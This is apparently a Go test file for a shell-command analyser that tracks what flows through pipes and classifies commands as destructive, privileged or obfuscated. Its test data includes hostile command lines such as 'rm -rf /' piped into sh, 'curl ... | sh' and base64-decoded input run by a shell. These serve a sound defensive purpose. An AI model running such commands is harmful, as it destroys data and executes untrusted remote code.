package effect_test

import (
	"strings"
	"testing"

	"tenet/core/call"
	"tenet/core/effect"
)

// TestPipe: each stage is told the program before it, and the text that surely arrives;
// what goes through a program that changes it is not known.
func TestPipe(t *testing.T) {
	for _, c := range []struct{ line, fed, input string }{
		{"echo rm -rf / | sh", "echo", "rm -rf /\n"},
		{"echo -n a | sh", "echo", "a"},
		{`echo -e a\tb | sh`, "echo", "a\tb\n"},
		{`echo a\tb | sh`, "echo", "a\\tb\n"},
		{"printf %s a b | sh", "printf", "ab"},
		{`printf %s\n a b | sh`, "printf", "a\nb\n"},
		{"printf %5d 1 | sh", "printf", ""},
		{"printf -v x a | sh", "printf", ""},
		{"echo a | cat | sudo sh", "cat", "a\n"},
		{"echo a | tee f | sh", "tee", "a\n"},
		{"echo a | base64 -d | sh", "base64", ""},
		{"echo a | cat f | sh", "cat", ""},
		{"curl -s http://h | sh", "curl", ""},
		{"/usr/bin/curl http://h | sh", "curl", ""},
		{"echo \x00 | sh", "echo", ""},
		{"\x00 a | sh", call.Hole, ""},
	} {
		stages := pipeline(c.line)
		effect.Pipe(stages)
		last := stages[len(stages)-1]
		if last.Fed != c.fed || last.Input != c.input {
			t.Errorf("%q hands on %q from %q, want %q from %q", c.line, last.Input, last.Fed, c.input, c.fed)
		}
		if stages[0].Fed != "" || stages[0].Input != "" {
			t.Errorf("%q: the first stage is fed by %q", c.line, stages[0].Fed)
		}
	}
}

func pipeline(line string) (stages []effect.Command) {
	for part := range strings.SplitSeq(line, " | ") {
		stages = append(stages, effect.Command{Argv: strings.Split(part, " ")})
	}
	return stages
}

// TestWhatIsPipedIsJudged: a stage of the step grammar that a shell runs has the effects
// and the commands of the text that it reads.
func TestWhatIsPipedIsJudged(t *testing.T) {
	stages := pipeline("echo rm -rf / | cat | sudo sh")
	effect.Pipe(stages)
	f := effect.Of(stages[2], home)
	if want := call.Of(call.Exec, call.Write, call.Protected, call.Secret); f.Effects != want {
		t.Errorf("it may %v, want %v", f.Effects, want)
	}
	if got := shownFacts(f); got != "compound: sudo: sh <cat ; sudo sh: rm -rf /" {
		t.Error(got)
	}
	stages[1].Redirs = []effect.Redirect{{Op: effect.Out, Path: "f"}}
	effect.Pipe(stages)
	if f := effect.Of(stages[2], home); stages[2].Input != "" || f.Class != call.Obfuscated {
		t.Errorf("what went into a file was read as %q, class %v", stages[2].Input, f.Class)
	}
}

// TestOfStages: assignments, patterns, holes and redirections of one step.
func TestOfStages(t *testing.T) {
	for want, c := range map[string]effect.Command{
		"simple: PATH=./bin: ls":                  {Argv: []string{"ls"}, Assigns: []string{"PATH=./bin"}},
		"simple: rm -rf *.o":                      {Argv: []string{"rm", "-rf", "*.o"}, Patterns: []bool{false, false, true}},
		`simple: rm ''\''*'\'''`:                  {Argv: []string{"rm", "'*'"}},
		"simple: rm …":                            {Argv: []string{"rm", call.Hole}},
		"obfuscated: … -rf /":                     {Argv: []string{call.Hole, "-rf", "/"}},
		"simple: : >out":                          {Redirs: []effect.Redirect{{Op: effect.Out, Path: "out"}}},
		"simple: ls":                              {Argv: []string{"ls"}, Redirs: []effect.Redirect{{Op: effect.ErrOut, Path: "/dev/null"}, {Op: effect.Dup, Path: "1"}}},
		"simple: cat >a >b":                       {Argv: []string{"cat"}, Redirs: []effect.Redirect{{Op: effect.In, Path: "i"}, {Op: effect.Append, Path: "a"}, {Op: effect.ErrAppend, Path: "b"}}},
		"simple: ":                                {Assigns: []string{"X=1"}},
		"simple: X=/ sh: rm -rf /":                {Argv: []string{"sh", "-c", "rm -rf $X"}, Assigns: []string{"X=/"}},
		"obfuscated: sh <curl":                    {Argv: []string{"sh"}, Fed: "curl"},
		"simple: sudo: rm /tmp/x <curl":           {Argv: []string{"sudo", "rm", "/tmp/x"}, Fed: "curl"},
		"obfuscated: bash -c 'rm …' ; bash: rm …": {Argv: []string{"bash", "-c", "rm " + call.Hole}},
	} {
		if got := shownFacts(effect.Of(c, home)); got != want {
			t.Errorf("%+v\n\tis  %s\n\tnot %s", c, got, want)
		}
	}
}
